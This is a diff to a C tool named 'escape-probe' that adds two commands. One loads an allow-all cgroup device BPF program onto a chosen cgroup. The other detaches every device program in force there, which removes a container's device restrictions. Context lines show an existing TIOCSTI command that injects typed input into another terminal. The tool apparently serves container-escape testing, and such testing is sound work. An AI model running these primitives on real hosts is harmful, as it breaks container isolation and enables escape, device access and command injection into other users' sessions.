@@ -17,6 +17,8 @@
  *                              ends early once LOG.stop exists
  *   tiocsti FD TEXT            push TEXT into the input of the terminal on FD (TIOCSTI), as typed;
  *                              '~' is Enter, '|' waits a second (the shell that ran it may exit)
+ *   bpfdev CGDIR FLAGS         attach an allow-everything cgroup device program to CGDIR (BPF_PROG_ATTACH)
+ *   bpfdetach CGDIR            detach every device program in force at CGDIR (BPF_F_QUERY_EFFECTIVE) from CGDIR
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -34,6 +36,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <time.h>
+#include <linux/bpf.h>
 #include <unistd.h>
 
 static int result(long rc) {
@@ -256,6 +259,53 @@ int main(int argc, char **argv) {
             if (ioctl(fd, TIOCSTI, &ch) < 0) return result(-1);
         }
         return result(0);
+    }
+    if (!strcmp(c, "bpfdev") && argc == 4) {
+        /* r0 = 1 (allow); exit */
+        struct bpf_insn prog[] = { { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 }, { .code = BPF_JMP | BPF_EXIT } };
+        union bpf_attr load = { 0 };
+        load.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE;
+        load.insns = (unsigned long)prog;
+        load.insn_cnt = 2;
+        load.license = (unsigned long)"GPL";
+        int pfd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof load);
+        if (pfd < 0) { printf("err %d load\n", errno); return 1; }
+        int cg = open(argv[2], O_RDONLY | O_DIRECTORY);
+        if (cg < 0) return result(-1);
+        union bpf_attr at = { 0 };
+        at.target_fd = (unsigned)cg;
+        at.attach_bpf_fd = (unsigned)pfd;
+        at.attach_type = BPF_CGROUP_DEVICE;
+        at.attach_flags = (unsigned)strtoul(argv[3], NULL, 0);
+        return result(syscall(SYS_bpf, BPF_PROG_ATTACH, &at, sizeof at));
+    }
+    if (!strcmp(c, "bpfdetach") && argc == 3) {
+        int cg = open(argv[2], O_RDONLY | O_DIRECTORY);
+        if (cg < 0) return result(-1);
+        unsigned ids[16];
+        union bpf_attr q = { 0 };
+        q.query.target_fd = (unsigned)cg;
+        q.query.attach_type = BPF_CGROUP_DEVICE;
+        q.query.query_flags = BPF_F_QUERY_EFFECTIVE;
+        q.query.prog_ids = (unsigned long)ids;
+        q.query.prog_cnt = 16;
+        if (syscall(SYS_bpf, BPF_PROG_QUERY, &q, sizeof q) < 0) { printf("err %d query\n", errno); return 1; }
+        if (q.query.prog_cnt == 0) { printf("err %d none\n", ENOENT); return 1; }
+        long rc = 0;
+        int err = 0;
+        for (unsigned i = 0; i < q.query.prog_cnt; i++) {
+            union bpf_attr g = { 0 };
+            g.prog_id = ids[i];
+            int pfd = (int)syscall(SYS_bpf, BPF_PROG_GET_FD_BY_ID, &g, sizeof g);
+            if (pfd < 0) { rc = -1; err = errno; continue; }
+            union bpf_attr d = { 0 };
+            d.target_fd = (unsigned)cg;
+            d.attach_bpf_fd = (unsigned)pfd;
+            d.attach_type = BPF_CGROUP_DEVICE;
+            if (syscall(SYS_bpf, BPF_PROG_DETACH, &d, sizeof d) < 0) { rc = -1; err = errno; }
+        }
+        errno = err;
+        return result(rc);
     }
     fprintf(stderr, "escape-probe: bad command\n");
     return 2;
